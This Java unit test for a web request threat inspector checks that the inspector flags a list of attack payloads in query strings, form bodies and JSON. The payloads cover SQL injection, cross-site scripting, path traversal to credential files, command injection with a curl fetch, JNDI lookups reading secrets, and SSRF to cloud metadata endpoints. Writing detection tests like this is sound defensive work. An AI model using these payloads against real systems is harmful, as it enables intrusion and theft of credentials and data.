package dev.portcullis.threat;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.request.HttpFields;
import dev.portcullis.threat.Finding.Category;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ThreatInspectorTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '^',
      value = {
        "SQL_INJECTION~' or 1=1--",
        "SQL_INJECTION~1 or 1=1",
        "SQL_INJECTION~admin'--",
        "SQL_INJECTION~\") or (\"a\"=\"a",
        "SQL_INJECTION~' UNION ALL SELECT NULL,NULL,version()--",
        "SQL_INJECTION~-1 union/**/select 1,2,3",
        "SQL_INJECTION~-1 /*!50000union*/ /*!50000select*/ 1,2,3",
        "SQL_INJECTION~1; DROP TABLE users",
        "SQL_INJECTION~1;waitfor delay '0:0:5'--",
        "SQL_INJECTION~' and sleep(5) and '1'='1",
        "SQL_INJECTION~'||(select password from users limit 1)||'",
        "SQL_INJECTION~1' ORDER BY 10#",
        "SQL_INJECTION~select * from information_schema.tables",
        "CROSS_SITE_SCRIPTING~<script>alert(1)</script>",
        "CROSS_SITE_SCRIPTING~<img src=x onerror=alert(1)>",
        "CROSS_SITE_SCRIPTING~<svg/onload=alert`1`>",
        "CROSS_SITE_SCRIPTING~\" onfocus=alert(1) autofocus x=\"",
        "CROSS_SITE_SCRIPTING~javascript:alert(document.cookie)",
        "CROSS_SITE_SCRIPTING~<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "CROSS_SITE_SCRIPTING~';alert(1)//",
        "CROSS_SITE_SCRIPTING~\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "PATH_TRAVERSAL~../../../../etc/passwd",
        "PATH_TRAVERSAL~..\\..\\..\\windows\\win.ini",
        "PATH_TRAVERSAL~/etc/passwd",
        "PATH_TRAVERSAL~file:///etc/shadow",
        "PATH_TRAVERSAL~....//....//....//etc/hosts",
        "COMMAND_INJECTION~; cat /etc/hosts",
        "COMMAND_INJECTION~| id",
        "COMMAND_INJECTION~127.0.0.1 && whoami",
        "COMMAND_INJECTION~$(curl http://example.org/x)",
        "COMMAND_INJECTION~x`id`",
        "COMMAND_INJECTION~;c'a't${IFS}/etc/hosts",
        "COMMAND_INJECTION~() { :;}; echo vulnerable",
        "COMMAND_INJECTION~& ping -c 3 10.0.0.1",
        "JNDI_INJECTION~${jndi:ldap://x/a}",
        "JNDI_INJECTION~${${lower:j}ndi:${lower:l}dap://x/a}",
        "JNDI_INJECTION~${${::-j}${::-n}di:rmi://x}",
        "JNDI_INJECTION~${env:AWS_SECRET}",
        "SERVER_SIDE_REQUEST_FORGERY~http://169.254.169.254/latest/meta-data/",
        "SERVER_SIDE_REQUEST_FORGERY~http://2130706433/",
        "SERVER_SIDE_REQUEST_FORGERY~http://0x7f.1:8080/admin",
        "SERVER_SIDE_REQUEST_FORGERY~http://0177.0.0.1/",
        "SERVER_SIDE_REQUEST_FORGERY~https://[::ffff:127.0.0.1]/",
        "SERVER_SIDE_REQUEST_FORGERY~http://public.example@127.0.0.1/",
        "SERVER_SIDE_REQUEST_FORGERY~http:\\\\localhost\\",
        "SERVER_SIDE_REQUEST_FORGERY~gopher://127.0.0.1:6379/_x",
      })
  void anAttackIsFoundInQueryFormAndJson(Category category, String attack) {
    String encoded = URLEncoder.encode(attack, StandardCharsets.UTF_8);
    String twice = URLEncoder.encode(encoded.replace("+", "%20"), StandardCharsets.UTF_8);
    assertThat(Requests.findings("/a?q=" + encoded))
        .extracting(Finding::category)
        .contains(category);
    assertThat(Requests.findings("/a?q=" + twice)).extracting(Finding::category).contains(category);
    assertThat(Requests.body("application/x-www-form-urlencoded", "q=" + encoded))
        .extracting(Finding::category)
        .contains(category);
    var json = Requests.json("{\"a\":[{\"b\":" + OrdinaryTrafficTest.quoted(attack) + "}]}");
    assertThat(json).extracting(Finding::category).contains(category);
    assertThat(json).extracting(Finding::location).contains("body:/a/0/b");
  }

  @Test
  void offLooksAtNothing() {
    var request = Requests.of("GET", "/?q=%27or+1%3D1--", HttpFields.EMPTY, new byte[0]);
    assertThat(new ThreatInspector().inspect(request, Corpora.route(ThreatMode.OFF)).findings())
        .isEmpty();
  }
}
